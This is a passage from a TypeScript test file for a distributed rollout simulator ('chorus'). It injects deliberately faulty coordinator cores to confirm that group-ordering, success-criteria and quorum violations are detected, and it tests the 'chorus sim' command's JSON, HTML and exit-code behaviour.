    expect(hits.length, brief(r)).toBeGreaterThan(0)
    expect(hits[0]!.seed).toBe(seed)
    expect(hits[0]!.detail).toMatch(/batching, size \d+\): .* of batch \d+ started/)
  })

  it('groups: a core that starts group g + 1 before group g finished', () => {
    const cores = lyingCore((k, body, run) => {
      if (run.group === 0) return
      fakeDone(k, run.group - 1, 0, body.resolved.groups[run.group - 1]!.size)
    })
    const seed = 6
    const r = runScenario({ scenario: 'fleet-patch', agents: 40, seed, cores })
    const hits = r.violations.filter((v) => v.property === 'groups')
    expect(hits.length, brief(r)).toBeGreaterThan(0)
    expect(hits[0]!.seed).toBe(seed)
    expect(hits[0]!.detail).toMatch(/of group 1 started at .* before group 0 finished/)
  })

  it('groups: a core that goes on after the previous group failed its criteria', () => {
    // Attempts fail 60 % of the time, so the canary ring misses its 90 % criterion. This core
    // still waits for group 0 to end, but takes every run of it that ended as a success: the
    // coordinator's checkpoint as if succeeded = done, and any failure it heard as a success.
    const forged = new WeakSet<CheckpointBody>()
    const cores = lyingCore((k, _body, run) => {
      if (run.group === 0) return
      const prev = run.group - 1
      for (const f of k.facts.get(prev)?.values() ?? []) if (f.done) f.done = 'success'
      const cp = k.checkpoint
      if (!cp || forged.has(cp)) return
      const lie: CheckpointBody = { ...cp, groups: cp.groups.map((g, gi) => gi === prev ? { ...g, succeeded: g.done } : g) }
      forged.add(lie)
      k.checkpoint = lie
    })
    // Seed 2: the canary ring misses its criterion (seed 1 did until the simulator ran the agent
    // shell over the real topology, which changed every trace; seed 10 before agents learnt of
    // closed connections; seed 3 before small gated definitions carried their tickets; a seed
    // where the ring succeeds has nothing to catch).
    const seed = 2
    const r = runScenario({ scenario: 'fleet-patch', agents: 40, seed, cores, stepModel: { failure_rate: 0.6 } })
    const hits = r.violations.filter((v) => v.property === 'groups')
    expect(hits.length, brief(r)).toBeGreaterThan(0)
    expect(hits[0]!.seed).toBe(seed)
    expect(hits[0]!.detail, brief(r)).toMatch(/of group 1 started at .* although group 0 had not met its success criteria \(\d+ of \d+ succeeded, \d+ needed, at most \d+ may fail\): distribution should have stopped/)
  })

  it('quorum: a core that ignores the quorum (counts every target as acknowledged)', () => {
    // A fact (even an empty one) is an acknowledgement: this core holds one for every position.
    const cores = lyingCore((k, body) => {
      if (!body.template.chorus?.quorum) return
      body.resolved.groups.forEach((g, gi) => { for (let pos = 0; pos < g.size; pos++) factFor(k, gi, pos) })
    })
    const seed = 2 // even: a 100 % quorum, and one member misses the publish
    const r = runScenario({ scenario: 'quorum-upgrade', seed, cores })
    const hits = r.violations.filter((v) => v.property === 'quorum')
    expect(hits.length, brief(r)).toBeGreaterThan(0)
    expect(hits[0]!.seed).toBe(seed)
    expect(hits[0]!.detail).toMatch(/targets had accepted the job; the quorum is 5/)
  })
})

describe('chorus sim command', () => {
  function capture(): { out: string[]; err: string[]; restore: () => void } {
    const out: string[] = []
    const err: string[] = []
    const o = process.stdout.write.bind(process.stdout)
    const e = process.stderr.write.bind(process.stderr)
    process.stdout.write = ((s: string) => { out.push(String(s)); return true }) as typeof process.stdout.write
    process.stderr.write = ((s: string) => { err.push(String(s)); return true }) as typeof process.stderr.write
    return { out, err, restore: () => { process.stdout.write = o; process.stderr.write = e } }
  }

  it('prints the JSON summary and writes an HTML report', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'chorus-sim-'))
    onTestFinished(() => rmSync(dir, { recursive: true, force: true }))
    const report = join(dir, 'r.html')
    const cap = capture()
    let code: number
    try {
      code = await runSimCommand({ scenario: 'coordinator-crash', agents: 20, seed: 4, json: true, report })
    } finally { cap.restore() }
    expect(code, cap.err.join('')).toBe(0)
    const summary = JSON.parse(cap.out.join('')) as Record<string, unknown>
    for (const k of ['scenario', 'agents', 'seeds', 'violations', 'liveness_failures', 'sim_time_s', 'wall_s', 'messages', 'bytes_per_node_per_s', 'max_concurrent_by_group', 'trace_hash', 'liveness_bound_s', 'liveness_formula', 'documented_tradeoffs']) expect(summary).toHaveProperty(k)
    expect(summary.trace_hash).toMatch(/^[0-9a-f]{64}$/)
    const html = readFileSync(report, 'utf8')
    expect(html).toContain('<svg')
    expect(html).toContain('coordinator')
  })

  it('takes a Courier template with --job, refuses unknown scenarios, runs quorum-upgrade', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'chorus-sim-'))
    onTestFinished(() => rmSync(dir, { recursive: true, force: true }))
    const job = join(dir, 'job.json')
    writeFileSync(job, readFileSync(new URL('../../shared/courier/samples/samples_multi-node-one-group-immediate-rolling-linux.json', import.meta.url)))
    const cap = capture()
    let codes: number[]
    try {
      codes = [
        await runSimCommand({ scenario: 'fleet-patch', agents: 10, seed: 2, job, json: true }),
        await runSimCommand({ scenario: 'no-such-thing' }),
        await runSimCommand({ scenario: 'quorum-upgrade', seed: 3, json: true }),
      ]
    } finally { cap.restore() }
    expect(codes, cap.err.join('')).toEqual([0, 2, 0])
    expect(cap.err.join('')).toMatch(/unknown scenario/)
    const summaries = cap.out.map((l) => JSON.parse(l) as { liveness_bound_s: number; liveness_formula: string })
    expect(summaries.at(-1)!.liveness_bound_s).toBeGreaterThan(0)
    expect(summaries.at(-1)!.liveness_formula).toMatch(/slack/)
  })

  it('on a violation: exit 1, and stderr names the seed and the command that replays it', async () => {
    // A core that runs an attempt twice (the at-most-once double) makes seed 5 fail.
    const cores = reemittingCore(3)
    const cap = capture()
    let code: number
    try {
      code = await runSimCommand({ scenario: 'fleet-patch', agents: 20, seed: 5, json: true, cores })
    } finally { cap.restore() }
    expect(code).toBe(1)
    expect(cap.err.join('')).toContain('npx chorus sim --scenario fleet-patch --agents 20 --seed 5')
  })
})
